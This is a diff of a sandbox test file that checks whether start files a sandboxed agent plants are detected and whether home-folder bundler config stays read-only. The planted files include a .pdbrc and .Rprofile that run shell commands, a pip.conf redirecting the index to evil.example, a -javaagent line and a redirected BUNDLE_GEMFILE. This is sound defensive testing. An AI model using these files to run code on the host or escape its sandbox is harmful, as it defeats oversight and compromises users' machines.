@@ -537,8 +537,12 @@ t.test('twenty-first pass: start files REPLs and debuggers run from the folder, 
   const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
   t.same(named(), [], 'control: files made before the run');
   const pdbrc = 'import os; os.system("touch " + os.environ["HUNT_MARK"])\ncontinue\n';
-  const made = ['.pdbrc', 'lib/.irbrc', '.pryrc', 'analysis/.Renviron', '.ghci', '.octaverc', '.bazelrc', '.jvmopts', '.sbtopts', '.mvn', 'gradle/wrapper/gradle-wrapper.jar', 'gradle/wrapper/gradle-wrapper.properties'];
-  for (const f of made) if (f === '.mvn') write('.mvn/jvm.config', '-javaagent:x.jar\n'); else write(f, f === '.pdbrc' ? pdbrc : 'x\n');
+  const made = ['.pdbrc', 'lib/.irbrc', '.pryrc', 'analysis/.Renviron', '.ghci', '.octaverc', '.bazelrc', '.jvmopts', '.sbtopts', '.mvn', 'gradle/wrapper/gradle-wrapper.jar', 'gradle/wrapper/gradle-wrapper.properties', 'ruby/.bundle'];
+  for (const f of made) {
+    if (f === '.mvn') write('.mvn/jvm.config', '-javaagent:x.jar\n');
+    else if (f.endsWith('.bundle')) write(`${f}/config`, '---\nBUNDLE_GEMFILE: "vendor/.g/Gemfile"\n');
+    else write(f, f === '.pdbrc' ? pdbrc : 'x\n');
+  }
   fs.appendFileSync(path.join(work, '.Rprofile'), 'system("touch $MARK")\n');
   write('.venv/pip.conf', '[global]\nindex-url = https://evil.example/simple\n');
   t.same(named(), [...made, '.Rprofile', '.venv'].sort(), 'each made or changed is named, the venv by its pip.conf');
@@ -546,6 +550,13 @@ t.test('twenty-first pass: start files REPLs and debuggers run from the folder, 
   const mark = path.join(work, 'PDB-RAN');
   spawnSync('python3', ['-m', 'pdb', 'app.py'], { cwd: work, env: { ...process.env, HOME: path.join(work, 'no-home'), HUNT_MARK: mark }, input: '', timeout: 10_000 });
   t.ok(fs.existsSync(mark), 'pdb on the host ran the .pdbrc the agent made');
+  // bundler's user config and plugins in the home folder are read-only inside.
+  const { homeEntryFiles } = await import('../../sandbox/entry-files.ts');
+  const home = tempDir(t, 'hunt21-sandbox-bundle-');
+  for (const f of ['.bundle/config', '.bundle/plugin/index', '.bundle/cache/x.gem']) writer(home)(f, '---\n');
+  const protectedFiles = homeEntryFiles(home, path.join(home, 'src'), [], {});
+  t.ok(protectedFiles.includes(path.join(home, '.bundle/config')) && protectedFiles.includes(path.join(home, '.bundle/plugin')), '~/.bundle/config and plugin/ are read-only inside');
+  t.notOk(protectedFiles.some((p) => p.includes('.bundle/cache')), 'its cache is not');
 });
 
 t.test('twenty-first pass: compose override files, conftest.py, the flake and shell files direnv evaluates, and COMPOSE_FILE in a .env are named when made or changed', async (t) => {
